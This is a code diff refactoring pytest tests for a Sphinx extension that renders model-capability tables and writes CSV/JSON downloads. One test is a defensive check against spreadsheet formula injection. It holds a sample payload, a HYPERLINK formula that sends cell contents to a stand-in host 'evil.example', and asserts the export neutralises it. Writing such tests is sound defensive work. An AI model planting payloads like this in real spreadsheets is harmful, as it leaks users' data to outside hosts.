@@ -12,7 +12,8 @@ import sys
 from pathlib import Path
 
 import pytest
-from conftest import DOCS, build, write_project
+from conftest import DOCS, Built, build, copy_root
+from docutils import nodes
 from htmltable import read_tables
 
 from sphinx_vlmtable.data.validate import load_survey_text
@@ -20,27 +21,23 @@ from sphinx_vlmtable.view.export import to_markdown
 from sphinx_vlmtable.view.matrix import build_matrix_view
 from sphinx_vlmtable.view.options import ViewError, ViewOptions
 
-CAPABILITIES = (DOCS / "data" / "capabilities.yaml").read_text()
 
-
-def matrix_project(tmp_path: Path, options: str = "", page_md: bool = False) -> Path:
-    directive = f".. vlm-matrix:: data/c.yaml\n{options}"
-    return write_project(
-        tmp_path / "src",
-        {
-            "data/c.yaml": CAPABILITIES,
-            "m.rst": f"Matrix\n======\n\n{directive}",
-            "m_md.md": "# Matrix\n\n```{vlm-matrix} data/c.yaml\n"
-            + options.replace("   ", "")
-            + "```\n",
-        },
-    )
+def matrix_project(tmp_path: Path, options: str = "") -> Path:
+    """A copy of ``roots/test-matrix``, its two pages given these options."""
+    srcdir = copy_root("matrix", tmp_path)
+    if options:
+        for page, indent in (("index.rst", "   "), ("m_md.md", "")):
+            path = srcdir / page
+            text = path.read_text()
+            marker = ".. vlm-matrix:: data/c.yaml\n" if page == "index.rst" else "data/c.yaml\n"
+            path.write_text(text.replace(marker, marker + options.replace("   ", indent), 1))
+    return srcdir
 
 
 def test_matrix_header_is_the_task_tree_and_cells_say_their_state(tmp_path: Path) -> None:
     done = build(matrix_project(tmp_path))
     assert done.warnings == ""
-    for page in ("m.html", "m_md.html"):
+    for page in ("index.html", "m_md.html"):
         html = done.read(page)
         (table,) = read_tables(html)
         assert [[(c.text, c.rowspan, c.colspan) for c in row] for row in table.head] == [
@@ -54,8 +51,13 @@ def test_matrix_header_is_the_task_tree_and_cells_say_their_state(tmp_path: Path
             ["Example-Agent", "yes", "partial", "yes", "yes", "partial"],
             ["Example-Base"] + ["not stated"] * 5,
         ]
-        assert 'class="vlm-state vlm-state-partial"' in html
-        assert '<span class="vlm-state-text">partial</span>' in html
+        (matrix,) = done.doctree(page.removesuffix(".html")).findall(nodes.table)
+        partial = [entry for entry in matrix.findall(nodes.entry)
+                   if "vlm-state-partial" in entry["classes"]]  # fmt: skip
+        assert len(partial) == 2 and all("vlm-state" in entry["classes"] for entry in partial)
+        words = [inline.astext() for entry in partial for inline in entry.findall(nodes.inline)
+                 if "vlm-state-text" in inline["classes"]]  # fmt: skip
+        assert words == ["partial", "partial"]
         assert re.search(r'<p class="vlm-legend">Legend: <span class="vlm-legend-item '
                          r'vlm-state-yes">yes</span>', html)  # fmt: skip
     css = (done.outdir / "_static" / "vlmtable.css").read_text()
@@ -78,11 +80,12 @@ def test_matrix_views_sort_filter_and_task_columns(tmp_path: Path) -> None:
     )
     done = build(matrix_project(tmp_path, options))
     assert done.warnings == ""
-    (table,) = read_tables(done.read("m.html"))
-    assert [[c.text for c in row] for row in table.body] == [
-        ["Example-Agent", "partial", "partial"],
-        ["Example-VL", "yes", "no"],
-    ]
+    for page in ("index.html", "m_md.html"):
+        (table,) = read_tables(done.read(page))
+        assert [[c.text for c in row] for row in table.body] == [
+            ["Example-Agent", "partial", "partial"],
+            ["Example-VL", "yes", "no"],
+        ]
 
 
 def test_an_unknown_task_is_located_with_a_suggestion(tmp_path: Path) -> None:
@@ -93,7 +96,7 @@ def test_an_unknown_task_is_located_with_a_suggestion(tmp_path: Path) -> None:
     done = build(srcdir)
     assert re.search(r"data/c.yaml:19: WARNING: the model states the task 'Imag Captioning', but "
                      r"'tasks' has no task with that name or key \(did you mean 'Image "
-                     r"Captioning'\?\) \(in vlm-matrix at m.rst:4\) \[vlmtable.unknown_key\]",
+                     r"Captioning'\?\) \(in vlm-matrix at index.rst:4\) \[vlmtable.unknown_key\]",
                      done.warnings), done.warnings  # fmt: skip
 
 
@@ -103,46 +106,36 @@ def test_matrix_view_errors() -> None:
         build_matrix_view(data, ViewOptions())
 
 
-def test_downloads_are_the_view_beside_the_page(tmp_path: Path) -> None:
-    page = (
-        "Data\n====\n\n.. vlm-table:: /data/llms.yaml\n   :name: llms\n"
-        "   :columns: model, released, params\n   :filter: params >= 70B\n   :sort: -params\n"
-        "   :download: csv, json\n"
-    )
-    srcdir = write_project(
-        tmp_path / "src",
-        {
-            "data/llms.yaml": (DOCS / "data" / "llms.yaml").read_text(),
-            "sub/page.rst": page,
-            "index.rst": "Index\n=====\n\n.. toctree::\n\n   sub/page\n",
-        },
-    )
-    done = build(srcdir)
-    assert done.warnings == ""
-    html = done.read("sub/page.html")
-    assert '<a class="vlm-download reference external" href="page.llms.csv">CSV</a>' in html
-    rows = list(csv.reader(io.StringIO((done.outdir / "sub" / "page.llms.csv").read_text())))
-    assert rows == [
-        ["Model", "Released", "Parameters"],
-        ["Llama 3.1", "2024-07-23", "405B"],
-        ["GPT-3", "2020.05", "175B"],
-        ["Qwen2.5", "2024.9", "72B"],
-    ]
-    records = json.loads((done.outdir / "sub" / "page.llms.json").read_text())
-    assert records[0] == {"model": "Llama 3.1", "released": "2024-07-23", "params": "405B"}
-    assert [r["model"] for r in records] == [row[0] for row in rows[1:]]
-    shown = read_tables(html)[0]
-    assert [row[0].text for row in shown.body] == [row[0] for row in rows[1:]]
+@pytest.fixture(scope="module")
+def downloads(tmp_path_factory: pytest.TempPathFactory) -> Built:
+    """``roots/test-downloads`` built once (HTML)."""
+    return build(copy_root("downloads", tmp_path_factory.mktemp("downloads")))
+
+
+def test_downloads_are_the_view_beside_the_page(downloads: Built) -> None:
+    assert downloads.warnings == ""
+    for page in ("page", "page_md"):
+        html = downloads.read(f"sub/{page}.html")
+        assert (f'<a class="vlm-download reference external" href="{page}.llms.csv">CSV</a>'
+                in html)  # fmt: skip
+        written = (downloads.outdir / "sub" / f"{page}.llms.csv").read_text()
+        rows = list(csv.reader(io.StringIO(written)))
+        assert rows == [
+            ["Model", "Released", "Parameters"],
+            ["Llama 3.1", "2024-07-23", "405B"],
+            ["GPT-3", "2020.05", "175B"],
+            ["Qwen2.5", "2024.9", "72B"],
+        ]
+        records = json.loads((downloads.outdir / "sub" / f"{page}.llms.json").read_text())
+        assert records[0] == {"model": "Llama 3.1", "released": "2024-07-23", "params": "405B"}
+        assert [r["model"] for r in records] == [row[0] for row in rows[1:]]
+        shown = read_tables(html)[0]
+        assert [row[0].text for row in shown.body] == [row[0] for row in rows[1:]]
 
 
 @pytest.mark.parametrize("builder", ["latex", "epub", "text"])
 def test_other_builders_write_no_download(tmp_path: Path, builder: str) -> None:
-    page = "Data\n====\n\n.. vlm-table:: /data/llms.yaml\n   :download: csv\n"
-    srcdir = write_project(
-        tmp_path / "src",
-        {"data/llms.yaml": (DOCS / "data" / "llms.yaml").read_text(), "p.rst": page},
-    )
-    done = build(srcdir, builder)
+    done = build(copy_root("downloads", tmp_path), builder)
     assert "vlmtable" not in done.warnings
     assert not list(done.outdir.rglob("*.csv"))
 
@@ -191,37 +184,26 @@ def test_export_cli_views_and_errors(tmp_path: Path) -> None:
     assert "Traceback" not in bad.stderr
 
 
-def test_csv_cells_a_spreadsheet_would_run_are_neutralised(tmp_path: Path) -> None:
-    data = (
-        "models:\n  - {model: '=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")', llm: '+1+1'}\n"
-        "  - {model: '@SUM(A1)', llm: '-0.5'}\n  - {model: '-2+3+cmd', llm: '-'}\n"
-        "  - {model: Plain, llm: '1,200'}\n"
-    )
-    page = "P\n=\n\n.. vlm-table:: data/m.yaml\n   :columns: model, llm\n   :download: csv, json\n"
-    done = build(write_project(tmp_path / "src", {"data/m.yaml": data, "p.rst": page}))
-    rows = list(csv.reader(io.StringIO((done.outdir / "p.1.csv").read_text())))
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised(downloads: Built) -> None:
+    done = downloads
+    rows = list(csv.reader(io.StringIO((done.outdir / "formulas.1.csv").read_text())))
     assert rows[1:] == [
         ['\'=HYPERLINK("https://evil.example/?"&A1,"x")', "'+1+1"],
         ["'@SUM(A1)", "-0.5"],
         ["'-2+3+cmd", "-"],
         ["Plain", "1,200"],
     ]
-    records = json.loads((done.outdir / "p.1.json").read_text())
+    records = json.loads((done.outdir / "formulas.1.json").read_text())
     assert records[2]["model"] == "-2+3+cmd"  # JSON keeps the text as written
 
 
-def test_download_names_are_unique_and_do_not_change_with_other_options(tmp_path: Path) -> None:
-    table = ".. vlm-table:: /data/m.yaml\n   :download: csv\n"
-    pages = {
-        "x.rst": f"X\n=\n\n{table}\n{table}   :name: table-1\n\n{table}   :name: y-1\n",
-        "x-y.rst": f"XY\n==\n\n{table}   :interactive:\n",
-        "sub/z.rst": f"Z\n=\n\n{table}   :interactive:\n",
-        "index.rst": "I\n=\n\n.. toctree::\n   :glob:\n\n   *\n   sub/*\n",
-    }
-    data = {"data/m.yaml": "models:\n  - {model: A}\n"}
-    srcdir = write_project(tmp_path / "src", {**data, **pages})
-    done = build(srcdir)
+def test_download_names_are_unique_and_do_not_change_with_other_options(
+    downloads: Built,
+) -> None:
+    done = downloads
+    srcdir = done.srcdir
     names = sorted(p.relative_to(done.outdir).as_posix() for p in done.outdir.rglob("*.csv"))
+    names = [name for name in names if name.startswith(("x", "sub/z"))]
     assert names == ["sub/z.1.csv", "x-y.1.csv", "x.1.csv", "x.table-1.csv", "x.y-1.csv"]
     single = build(srcdir, "singlehtml")
     html = single.read("index.html")
